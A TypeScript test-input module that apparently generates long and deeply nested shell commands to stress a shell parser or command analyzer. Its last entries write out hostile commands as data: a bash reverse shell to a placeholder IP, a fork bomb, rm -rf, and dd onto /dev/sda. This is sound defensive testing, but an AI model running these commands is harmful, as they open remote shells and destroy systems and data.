import { after, type Family, many, nested, packed, singleQuoted, within } from "./make.js";

export const SHELL_WORDS: Readonly<Record<string, Family>> = {
  braces: within("a ", "{a,b}"),
  "brace words": within("a ", "{a,b} "),
  "brace sequences": within("a ", "{1..500} "),
  "brace sequences with long": many(() => `a {1..500}${"x".repeat(1000)}\n`),
  "brace sequences in quotes": within("a ", '{1..9}"a"'),
  "nested braces": nested("{a,", "}", "b"),
  "nested braces within": many(() => `a ${"{a,".repeat(200)}b${"}".repeat(200)}\n`),
  "nested braces within 400": many(() => `a ${"{a,".repeat(400)}b${"}".repeat(400)}\n`),
  "braces that do not close": many(() => `a ${"{a,".repeat(1300)}\n`),
  "braces that do not count": many(() => `a ${"{a}".repeat(1300)}\n`),
  "braces that do not open": many(() => `a ${"a},".repeat(1300)}\n`),
  "empty braces": many(() => `a ${"{}".repeat(2000)}\n`),
  "comma braces": many(() => `a {${",".repeat(500)}}\n`),
  "comma braces long": many(() => `a {${",".repeat(500)}}${"x".repeat(3000)}\n`),
  "brace dots": many(() => `a ${"{1..".repeat(1000)}\n`),
  "here-documents": many((i) => `a<<E${i}\nb\nE${i}\n`),
  "here-documents on one line": (length) => `a ${many((i) => `<<E${i} `)(length - 10)}\n`,
  "here-documents on one line, closed": (length) => {
    const count = Math.floor(length / 14);
    return `a ${Array.from({ length: count }, (_, i) => `<<E${i} `).join("")}\n${Array.from({ length: count }, (_, i) => `E${i}\n`).join("")}`;
  },
  "here-document of much": within("a<<E\n", "b\n", "E\n"),
  "here-document of substitutions": within("a<<E\n", "$(b)\n", "E\n"),
  "here-document without an end": within("a<<E\n", "b\n"),
  "here-document into sh": within("sh<<E\n", "b\n", "E\n"),
  "here-document into bash into bash": (length) =>
    `bash<<'E'\nbash<<'F'\nbash<<'G'\n${within("", "b;")(length - 80)}\nG\nF\nE\n`,
  "here-strings": within("", "a<<<b\n"),
  "open here-documents": within("", "a<<E;"),
  redirects: within("a", ">b"),
  "redirects of all": within("", ">b "),
  "redirects of groups": nested("{ ", ";}>b", "a"),
  "redirects of many groups": within("", "{ a;}>b;"),
  "process substitutions": within("a ", "<(b) "),
  "process substitutions nested": nested("a <(", ")", "b"),
  "process substitutions nested within": many(() => `${"a <(".repeat(40)}b${")".repeat(40)}\n`),
  "process substitutions in pipelines": within("a", "|b <(c)"),
  substitutions: within("a ", "$(b) "),
  "substitutions of echo": within("a ", "$(echo b) "),
  "substitutions of long echo": many(() => `a $(echo ${"b".repeat(500)})\n`),
  "substitutions in names": within("", "$(echo a)\n"),
  "substitutions of unknown": within("", "$($a)\n"),
  unknown: within("", "$a\n"),
  "unknown with many": within("$a ", "$b "),
  positional: within("", "$@\n"),
  parameters: within("a ", "${a} "),
  "parameters with patterns": within("a ", "${a//b/c} "),
  "parameters glued": within("a ", "${a}"),
  variable: within("a ", "$a"),
  extglob: within("a ", "@(b)"),
  "nested extglob": nested("@(", ")", "a"),
  globs: within("a ", "*"),
  "glob brackets": within("a ", "["),
  "glob words": within("a ", "[*] "),
  eval: within("eval ", "eval ", "a"),
  evals: within("", "eval a\n"),
  "eval of much": packed("eval ", within("", "a;"), singleQuoted, "", 1),
  "eval nested": (length) => {
    let text = "a";
    for (;;) {
      const next = `eval ${singleQuoted(text)};eval ${singleQuoted(text)}`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "sh -c nested": (length) => {
    let text = within("", "a;")(1000);
    for (;;) {
      const next = `sh -c ${singleQuoted(text)}`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "sh -c of much, eight levels": (length) => {
    let text = within("", "a;")(Math.floor(length * 0.9));
    for (let level = 0; level < 6; level++) {
      const next = `bash -c ${singleQuoted(text)}`;
      if (next.length > length) return text;
      text = next;
    }
    return text;
  },
  "sh -c often": within("", "sh -c a\n"),
  "sh -c with words": within("sh -c 'echo $@' ", "a "),
  "echo into sh": within("", "echo a|sh\n"),
  "echo of much into sh": within("echo '", "a;", "'|sh"),
  "echo of much into sh, often": many(() => `echo '${"a;".repeat(100)}'|sh|sh|sh\n`),
  printf: many(() => `printf '%s' ${"a ".repeat(500)}|sh\n`),
  "printf formats": many(() => `printf '${"%s".repeat(500)}' a b|sh\n`),
  "printf much": many(() => `printf '%s\\n%s' ${"a ".repeat(5000)}|sh\n`),
  env: within("", "env ", "a"),
  "env with names": within("env ", "a=b ", "c"),
  "env -S": within("", "env -S ", "a"),
  wrappers: within("", "nice ", "a"),
  "wrappers within": many(() => `${"nice ".repeat(60)}a\n`),
  "wrappers with words": many(() => `${"nice ".repeat(60)}a ${"b ".repeat(2000)}\n`),
  sudo: within("", "sudo ", "a"),
  "sudo within": many(() => `${"sudo ".repeat(60)}a\n`),
  "sudo within with words": (length) => `${"sudo ".repeat(60)}a ${within("", "b ")(length - 400)}\n`,
  xargs: within("", "xargs ", "a"),
  "xargs within": many(() => `${"xargs ".repeat(60)}a\n`),
  "xargs with words": (length) => `${"xargs ".repeat(60)}a ${within("", "b ")(length - 400)}\n`,
  "find -exec": within("find ", "-exec a ; "),
  "find -exec nested": within("", "find -exec ", "a ;"),
  "find -exec sh": within("find ", "-exec sh -c a ; "),
  parallel: within("parallel ", "::: a "),
  "parallel nested": within("", "parallel ", "a"),
  ssh: within("", "ssh h ", "a"),
  "ssh within": many(() => `${"ssh h ".repeat(11)}a\n`),
  watch: within("", "watch ", "a"),
  trap: within("", "trap a 0\n"),
  time: within("", "time ", "a"),
  "! ": within("", "! ", "a"),
  "[[": within("[[ ", "a && ", "a ]]"),
  "[[ nested": nested("[[ ( ", " ) ]]", "a"),
  "[[ (": after("[[ ", nested("( ", " )", "a"), " ]]"),
  test: within("", "[ a ]\n"),
  arrays: within("a=(", "b ", ")"),
  "arrays nested": nested("a=(", ")", "b"),
  "arrays often": within("", "a=(b)\n"),
  "python -c": within("", "python -c a\n"),
  "python -c of much": packed("python3 -c ", within("", "a.b("), singleQuoted, "", 1),
  "python -c of broken": packed("python3 -c ", within("", "({["), singleQuoted, "", 1),
  "python -c doubled": after(`a='(['\n${'a="$a$a"\n'.repeat(12)}`, within("python3 ", '-c "$a$a$a$a" '), ""),
  "python -c doubled, often": after(
    `a='(['\n${'a="$a$a"\n'.repeat(12)}`,
    within("", 'python3 -c "$a$a$a$a"\n'),
    "",
  ),
  "node -e doubled, often": after(
    `a='(['\n${'a="$a$a"\n'.repeat(12)}`,
    within("", 'node -e "$a$a$a$a"\n'),
    "",
  ),
  "node -e doubled, much": after(
    `a='({['\n${'a="$a$a"\n'.repeat(11)}`,
    within("", 'node -e "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"\n'),
    "",
  ),
  "node -e of broken": packed("node -e ", within("", "({["), singleQuoted, "", 1),
  "perl -e": packed("perl -e ", within("", "system("), singleQuoted, "", 4.2),
  "perl -e often": many(() => `perl -e '${"system(".repeat(1100)}'\n`),
  "perl -e quotes often": many(() => `perl -e '${'"'.repeat(8000)}'\n`),
  "perl -e q often": many(() => `perl -e '${"q(".repeat(4000)}'\n`),
  "ruby -e often": many(() => `ruby -e '${"`".repeat(8000)}'\n`),
  "ruby -e % often": many(() => `ruby -e '${"%x(".repeat(2600)}'\n`),
  "php -r often": many(() => `php -r '${"system(".repeat(1100)}'\n`),
  "awk often": many(() => `awk '${"system(".repeat(580)}'\n`),
  "awk pipes": many(() => `awk '${'print|"a"\n'.repeat(400)}'\n`),
  "awk pipes without end": many(() => `awk '${"|a".repeat(2000)}'\n`),
  "awk slashes": many(() => `awk '${"/".repeat(4000)}'\n`),
  "awk brackets": many(() => `awk '${"/[".repeat(2000)}'\n`),
  "awk quotes": many(() => `awk '${'"'.repeat(4000)}'\n`),
  "awk )/ ": many(() => `awk '${")/|".repeat(1300)}'\n`),
  "awk ) spaces": many(() => `awk '|${") ".repeat(30)}${" ".repeat(3900)}'\n`),
  "sed often": many(() => `sed '${"s/a/b/e;".repeat(500)}'\n`),
  "sed open": many(() => `sed '${"s/".repeat(2000)}'\n`),
  "sed braces": many(() => `sed '${"{".repeat(4000)}'\n`),
  "sed e": many(() => `sed '${"e a\n".repeat(1000)}'\n`),
  mixed: (length) => {
    const python = `import os\nos.system("node -e 'require(\\"child_process\\").exec(\\"sh -c a\\")'")\n`;
    return many(() => `python3 -c ${singleQuoted(python)}\n`)(length);
  },
  "mixed doubling": (length) =>
    `a='import os\nos.system("${"a;".repeat(1000)}")\n'\na="$a$a$a"\n${within("", 'python3 -c "$a"\n')(length - 2200)}`,
  comments: within("", "#\n"),
  "comments behind": within("", "a #b\n"),
  "line continuations": within("a", " \\\n"),
  "blank lines": within("", "\n"),
  "reverse shells": within("", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n"),
  "almost curl | sh": within("", "curl a "),
  curls: within("", "curl a;"),
  "curl | tee": within("curl a", "|tee b"),
  "rm -rf": within("rm ", "-rf "),
  "rm of paths": within("rm ", "/etc/../home/ "),
  "long path": within("rm ", "../"),
  dd: within("dd ", "of=/dev/sda "),
  forks: within("", ":(){ :|:& };:\n"),
};
